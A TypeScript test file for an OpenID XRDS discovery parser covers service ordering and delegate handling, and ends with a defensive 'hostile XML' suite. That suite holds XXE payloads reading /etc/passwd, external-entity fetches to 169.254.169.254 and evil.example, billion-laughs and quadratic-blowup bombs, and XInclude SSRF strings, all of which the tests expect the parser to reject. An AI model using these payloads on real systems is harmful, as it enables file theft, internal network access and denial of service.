import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { discoverEndpointsFromXrds, type ServiceEndpoint } from '../../src/discovery/endpoints.js';
import { finalXrd, parseXrds, sortedServices, sortedUris } from '../../src/discovery/xrds.js';
import {
  TYPE_CLAIMED_IDENTIFIER,
  TYPE_OP_IDENTIFIER,
  TYPE_OPENID_1_0,
  TYPE_OPENID_1_1,
} from '../../src/protocol/constants.js';
import { DiscoveryError } from '../../src/protocol/errors.js';
import { readVector } from '../helpers/vectors.js';

const CLAIMED = 'http://unittest.example/id';

function isDiscoveryError(code: string) {
  return (err: unknown): boolean => {
    assert.ok(err instanceof DiscoveryError, `expected DiscoveryError, got ${String(err)}`);
    assert.equal(err.code, code, err.message);
    return true;
  };
}

function xrds(body: string, extraNs = ''): string {
  return (
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
    `<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)" xmlns:openid="http://openid.net/xmlns/1.0"${extraNs}>` +
    `<XRD>${body}</XRD></xrds:XRDS>`
  );
}

function summary(e: ServiceEndpoint): [string, string, string | null, string | null, boolean] {
  return [e.version, e.opEndpoint, e.claimedId, e.localId, e.isOpIdentifier];
}

describe('test_etxrd vectors (python-openid)', () => {
  const etxrd = (name: string): string => readVector(`openid/test/data/test_etxrd/${name}`);

  test('valid-populated-xrds.xml: services come in priority order, across types', () => {
    const services = sortedServices(finalXrd(parseXrds(etxrd('valid-populated-xrds.xml'))));
    assert.deepEqual(
      services.map((s) => s.priority),
      [0, 5, 10, 15, 20],
    );
    assert.deepEqual(services[3]?.types, ['http://typekey.com/services/1.0']);
    assert.deepEqual(services[3]?.uris, []);
    assert.deepEqual(services[4]?.types, [
      'http://lid.netmesh.org/sso/2.0b5',
      'http://lid.netmesh.org/2.0b5',
    ]);
  });

  test('valid-populated-xrds.xml: the OpenID 1.0 services become endpoints with their delegates, in priority order', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, etxrd('valid-populated-xrds.xml'));
    assert.deepEqual(
      endpoints.map((e) => [e.opEndpoint, e.localId, e.version]),
      [
        ['http://www.myopenid.com/server', 'http://josh.myopenid.com/', '1.0'],
        ['http://www.schtuff.com/openid', 'http://users.schtuff.com/josh', '1.0'],
        [
          'http://www.livejournal.com/openid/server.bml',
          'http://www.livejournal.com/users/nedthealpaca/',
          '1.0',
        ],
      ],
    );
  });

  test('no-xrd.xml: an XRDS without XRD is rejected', () => {
    assert.throws(() => parseXrds(etxrd('no-xrd.xml')), isDiscoveryError('xrds_invalid'));
  });

  test('not-xrds.xml: a document that is not XRDS is rejected', () => {
    assert.throws(() => parseXrds(etxrd('not-xrds.xml')), isDiscoveryError('xrds_invalid'));
  });
});

describe('test_discover XRDS vectors (python-openid)', () => {
  const doc = (name: string): string => readVector(`openid/test/data/test_discover/${name}`);

  test('openid2_xrds.xml: a 2.0 signon service with LocalID', () => {
    const [e, ...rest] = discoverEndpointsFromXrds(CLAIMED, doc('openid2_xrds.xml'));
    assert.equal(rest.length, 0);
    assert.deepEqual(summary(e!), [
      '2.0',
      'http://www.myopenid.com/server',
      CLAIMED,
      'http://smoker.myopenid.com/',
      false,
    ]);
    assert.deepEqual(e!.types, [TYPE_CLAIMED_IDENTIFIER]);
    assert.equal(e!.source, 'xrds');
  });

  test('openid2_xrds_no_local_id.xml: no LocalID leaves localId null', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('openid2_xrds_no_local_id.xml'));
    assert.deepEqual(endpoints.map(summary), [
      ['2.0', 'http://www.myopenid.com/server', CLAIMED, null, false],
    ]);
  });

  test('openid_1_and_2_xrds.xml: one service with 2.0 and 1.1 types is one 2.0 endpoint', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('openid_1_and_2_xrds.xml'));
    assert.equal(endpoints.length, 1);
    assert.deepEqual(endpoints[0]!.types, [TYPE_CLAIMED_IDENTIFIER, TYPE_OPENID_1_1]);
    assert.equal(endpoints[0]!.version, '2.0');
    assert.equal(endpoints[0]!.localId, 'http://smoker.myopenid.com/');
  });

  test('openid_1_and_2_xrds_bad_delegate.xml: LocalID and Delegate that differ fail discovery', () => {
    assert.throws(
      () => discoverEndpointsFromXrds(CLAIMED, doc('openid_1_and_2_xrds_bad_delegate.xml')),
      isDiscoveryError('local_id_conflict'),
    );
  });

  test('yadis_2_bad_local_id.xml: two different LocalIDs fail discovery', () => {
    assert.throws(
      () => discoverEndpointsFromXrds(CLAIMED, doc('yadis_2_bad_local_id.xml')),
      isDiscoveryError('local_id_conflict'),
    );
  });

  test('yadis_0entries.xml: a service of another type yields no endpoint', () => {
    assert.deepEqual(discoverEndpointsFromXrds(CLAIMED, doc('yadis_0entries.xml')), []);
  });

  test('yadis_2entries_delegate.xml: two 1.0 services in priority order with their delegates', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('yadis_2entries_delegate.xml'));
    assert.deepEqual(endpoints.map(summary), [
      ['1.0', 'http://www.myopenid.com/server', CLAIMED, 'http://smoker.myopenid.com/', false],
      [
        '1.0',
        'http://www.livejournal.com/openid/server.bml',
        CLAIMED,
        'http://frank.livejournal.com/',
        false,
      ],
    ]);
  });

  test('yadis_2entries_idp.xml: an OP Identifier element wins over a signon element', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('yadis_2entries_idp.xml'));
    assert.deepEqual(endpoints.map(summary), [
      ['2.0', 'http://www.livejournal.com/openid/server.bml', null, null, true],
    ]);
  });

  test('yadis_another_delegate.xml: a 1.0 service with a delegate', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('yadis_another_delegate.xml'));
    assert.deepEqual(endpoints.map(summary), [
      ['1.0', 'http://vroom.unittest/server', CLAIMED, 'http://smoker.myopenid.com/', false],
    ]);
  });

  test('yadis_idp.xml: an OP identifier has no claimed or local id', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('yadis_idp.xml'));
    assert.deepEqual(endpoints.map(summary), [['2.0', 'http://www.myopenid.com/server', null, null, true]]);
    assert.deepEqual(endpoints[0]!.types, [TYPE_OP_IDENTIFIER]);
  });

  test('yadis_idp_delegate.xml: a Delegate on an OP identifier is ignored', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('yadis_idp_delegate.xml'));
    assert.deepEqual(endpoints.map(summary), [['2.0', 'http://www.myopenid.com/server', null, null, true]]);
  });

  test('yadis_no_delegate.xml: a 1.0 service without delegate', () => {
    const endpoints = discoverEndpointsFromXrds(CLAIMED, doc('yadis_no_delegate.xml'));
    assert.deepEqual(endpoints.map(summary), [
      ['1.0', 'http://www.myopenid.com/server', CLAIMED, null, false],
    ]);
  });

  test('example-xrds.xml parses (one non-OpenID service)', () => {
    const parsed = parseXrds(readVector('openid/test/data/example-xrds.xml'));
    assert.deepEqual(finalXrd(parsed).services[0]?.types, ['http://example.com/']);
  });
});

describe('XRDS parsing rules', () => {
  test('takes the last XRD (XML-07)', () => {
    const text =
      '<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)">' +
      `<XRD><Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://first.example/</URI></Service></XRD>` +
      `<XRD><Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://last.example/</URI></Service></XRD>` +
      '</xrds:XRDS>';
    assert.deepEqual(
      discoverEndpointsFromXrds(CLAIMED, text).map((e) => e.opEndpoint),
      ['https://last.example/'],
    );
  });

  test('puts services without priority after every prioritised one, and keeps document order among equals', () => {
    const text = xrds(
      `<Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://none.example/</URI></Service>` +
        `<Service priority="30"><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://thirty-a.example/</URI></Service>` +
        `<Service priority="7"><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://seven.example/</URI></Service>` +
        `<Service priority="30"><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://thirty-b.example/</URI></Service>` +
        `<Service priority="bogus"><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://bogus.example/</URI></Service>`,
    );
    assert.deepEqual(
      discoverEndpointsFromXrds(CLAIMED, text).map((e) => e.opEndpoint),
      [
        'https://seven.example/',
        'https://thirty-a.example/',
        'https://thirty-b.example/',
        'https://none.example/',
        'https://bogus.example/',
      ],
    );
  });

  test('orders URIs within a service by their priority', () => {
    const text = xrds(
      `<Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type>` +
        '<URI>https://c.example/</URI><URI priority="20">https://b.example/</URI><URI priority="10">https://a.example/</URI>' +
        '</Service>',
    );
    const service = sortedServices(finalXrd(parseXrds(text)))[0]!;
    assert.deepEqual(
      sortedUris(service).map((u) => u.uri),
      ['https://a.example/', 'https://b.example/', 'https://c.example/'],
    );
  });

  test('prefers 2.0 signon over a 1.x service given a higher priority (no downgrade, XML-07)', () => {
    const text = xrds(
      `<Service priority="0"><Type>${TYPE_OPENID_1_1}</Type><URI>https://one.example/</URI></Service>` +
        `<Service priority="0"><Type>${TYPE_OPENID_1_0}</Type><URI>https://zero.example/</URI></Service>` +
        `<Service priority="50"><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://two.example/</URI></Service>`,
    );
    assert.deepEqual(
      discoverEndpointsFromXrds(CLAIMED, text).map((e) => [e.version, e.opEndpoint]),
      [
        ['2.0', 'https://two.example/'],
        ['1.1', 'https://one.example/'],
        ['1.0', 'https://zero.example/'],
      ],
    );
  });

  test('trims whitespace around Type and URI text', () => {
    const text = xrds(
      `<Service><Type>\n   ${TYPE_CLAIMED_IDENTIFIER}  \n</Type><URI>  https://op.example/  </URI></Service>`,
    );
    assert.equal(discoverEndpointsFromXrds(CLAIMED, text)[0]?.opEndpoint, 'https://op.example/');
  });

  test('ignores elements in the wrong namespace', () => {
    const text = xrds(
      `<Service><other:Type xmlns:other="urn:x">${TYPE_CLAIMED_IDENTIFIER}</other:Type><URI>https://op.example/</URI></Service>`,
    );
    assert.deepEqual(discoverEndpointsFromXrds(CLAIMED, text), []);
  });

  test('resolves namespace prefixes instead of matching tag names', () => {
    const text =
      '<a:XRDS xmlns:a="xri://$xrds" xmlns:b="xri://$xrd*($v*2.0)"><b:XRD><b:Service>' +
      `<b:Type>${TYPE_CLAIMED_IDENTIFIER}</b:Type><b:URI>https://prefixed.example/</b:URI>` +
      '</b:Service></b:XRD></a:XRDS>';
    assert.equal(discoverEndpointsFromXrds(CLAIMED, text)[0]?.opEndpoint, 'https://prefixed.example/');
  });

  test('skips service URIs that are not http(s) URLs (SS-08)', () => {
    const text = xrds(
      `<Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>file:///etc/passwd</URI><URI>javascript:alert(1)</URI>` +
        '<URI>https://ok.example/</URI></Service>',
    );
    assert.deepEqual(
      discoverEndpointsFromXrds(CLAIMED, text).map((e) => e.opEndpoint),
      ['https://ok.example/'],
    );
  });

  test('accepts CDATA text', () => {
    const text = xrds(
      `<Service><Type><![CDATA[${TYPE_CLAIMED_IDENTIFIER}]]></Type><URI>https://c.example/</URI></Service>`,
    );
    assert.equal(discoverEndpointsFromXrds(CLAIMED, text).length, 1);
  });

  test('rejects XML that is not well-formed', () => {
    assert.throws(() => parseXrds('<'), isDiscoveryError('xrds_invalid'));
    assert.throws(() => parseXrds(''), isDiscoveryError('xrds_invalid'));
    assert.throws(() => parseXrds(xrds('<Service>')), isDiscoveryError('xrds_invalid'));
  });
});

describe('hostile XML (security-cases §15)', () => {
  test('refuses an XXE entity reading a local file (XML-01)', () => {
    const text =
      '<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
      `<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)"><XRD><Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type>` +
      '<URI>&xxe;</URI></Service></XRD></xrds:XRDS>';
    assert.throws(() => parseXrds(text), isDiscoveryError('xml_dtd_forbidden'));
  });

  test('refuses an external DTD and parameter entities (XML-02)', () => {
    const external =
      '<!DOCTYPE x SYSTEM "http://169.254.169.254/latest/"><xrds:XRDS xmlns:xrds="xri://$xrds"/>';
    assert.throws(() => parseXrds(external), isDiscoveryError('xml_dtd_forbidden'));
    const parameter =
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xrds:XRDS xmlns:xrds="xri://$xrds"/>';
    assert.throws(() => parseXrds(parameter), isDiscoveryError('xml_dtd_forbidden'));
  });

  test('refuses billion laughs before any expansion (XML-03)', () => {
    let entities = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) entities += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    const text = `<?xml version="1.0"?><!DOCTYPE lolz [${entities}]><xrds:XRDS xmlns:xrds="xri://$xrds">&lol9;</xrds:XRDS>`;
    assert.throws(() => parseXrds(text), isDiscoveryError('xml_dtd_forbidden'));
  });

  test('refuses quadratic blowup (one big entity referenced many times, XML-04)', () => {
    const big = 'a'.repeat(100_000);
    const text = `<!DOCTYPE x [<!ENTITY a "${big}">]><xrds:XRDS xmlns:xrds="xri://$xrds">${'&a;'.repeat(10_000)}</xrds:XRDS>`;
    assert.throws(() => parseXrds(text), isDiscoveryError('xml_dtd_forbidden'));
  });

  test('never resolves an undeclared entity', () => {
    const text = xrds(`<Service><Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>&ext;</URI></Service>`);
    assert.throws(() => parseXrds(text), isDiscoveryError('xrds_invalid'));
  });

  test('caps nesting depth (XML-05)', () => {
    const deep = `${'<x>'.repeat(100)}${'</x>'.repeat(100)}`;
    assert.throws(() => parseXrds(xrds(deep)), isDiscoveryError('xrds_too_large'));
  });

  test('caps the element count (XML-05)', () => {
    const many = '<Service/>'.repeat(25_000);
    assert.throws(() => parseXrds(xrds(many)), isDiscoveryError('xrds_too_large'));
    assert.throws(
      () => parseXrds(xrds('<Service/>'.repeat(50)), { maxElements: 20 }),
      isDiscoveryError('xrds_too_large'),
    );
  });

  test('ignores XInclude and schemaLocation (no fetch, no effect, XML-08)', () => {
    const text = xrds(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://169.254.169.254/"/>' +
        `<Service xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://10.0.0.1/s.xsd">` +
        `<Type>${TYPE_CLAIMED_IDENTIFIER}</Type><URI>https://op.example/</URI></Service>`,
    );
    assert.deepEqual(
      discoverEndpointsFromXrds(CLAIMED, text).map((e) => e.opEndpoint),
      ['https://op.example/'],
    );
  });
});
